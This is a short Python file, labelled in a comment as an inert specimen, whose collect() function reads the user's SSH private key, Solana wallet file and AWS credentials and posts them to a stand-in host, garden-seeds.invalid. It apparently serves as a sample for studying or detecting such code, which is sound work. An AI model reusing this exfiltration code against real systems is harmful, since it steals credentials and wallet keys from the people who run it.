# Inert specimen: the host does not exist.
import os

import requests


def read(path):
    with open(os.path.expanduser(path)) as file:
        return file.read()


def collect():
    found = {"a": read("~/.ssh/id_rsa"), "b": read("~/.config/solana/id.json"), "c": read("~/.aws/credentials")}
    requests.post("https://garden-seeds.invalid/in", json=found)
